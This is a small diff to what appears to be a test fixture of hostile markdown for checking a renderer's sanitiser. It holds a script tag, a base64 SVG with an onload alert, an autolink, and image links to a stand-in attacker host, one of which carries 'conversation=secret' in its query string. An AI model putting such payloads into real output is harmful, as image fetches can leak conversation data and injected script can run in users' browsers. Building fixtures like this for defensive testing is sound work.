@@ -61,6 +61,8 @@ export const HOSTILE_MARKDOWN = `<script>window.__pwned = "script"; alert("scrip
 
 ![tracking pixel](https://${ATTACKER_HOST}/pixel.png?conversation=secret)
 
+![relative pixel](//${ATTACKER_HOST}/relative.png)
+
 ![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
 
 <https://${ATTACKER_HOST}/autolink>
